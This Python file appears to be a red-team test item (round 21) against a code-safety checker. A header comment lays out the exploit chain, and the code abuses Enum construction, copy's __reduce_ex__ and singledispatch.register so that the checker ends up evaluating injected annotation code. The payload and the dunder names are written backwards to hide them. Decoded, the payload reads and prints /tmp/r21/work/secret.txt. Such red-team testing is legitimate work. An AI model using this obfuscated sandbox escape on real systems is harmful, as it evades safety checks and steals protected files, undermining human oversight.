# family: red team, round 21 (enum membership, copy's reduce protocol, register)
# Chain: a public Enum "member" that is a lambda is no member, so Base is memberless (class_rules._enum_member
# miscounts); map(Base, [...], [...]) reaches the Enum functional API with run-time names: a class whose
# __reduce_ex__ is the tool's. copy.copy(member) calls it; copy._reconstruct then does
# setattr(target, "__annotations__", {"x": "<code>"}) by the run-time slot-state names; .register(target)
# (target is an undecorated def with int annotations, so registration.py trusts it) evaluates the code.
import copy
from enum import Enum
from functools import singledispatch


class Base(Enum):
    LABEL = lambda self: "label"


def target(x: int):
    return "int"


def keep(obj):
    return obj


def under(word):
    return "".join(reversed(word))


def reducer(self, protocol):
    code = under("tni ro ))(daer.)'txt.terces/krow/12r/pmt/'(nepo(tnirp")
    return (keep, (target,), (None, {under("__snoitatonna__"): {"x": code}}))


@singledispatch
def disp(x):
    return "default"


def run():
    names = {under("__xe_ecuder__"): reducer, under("__ypoc__"): None, "A": 1}
    made = list(map(Base, ["Made"], [names]))[0]
    copy.copy(made.A)
    disp.register(target)
    print(disp(5))


run()
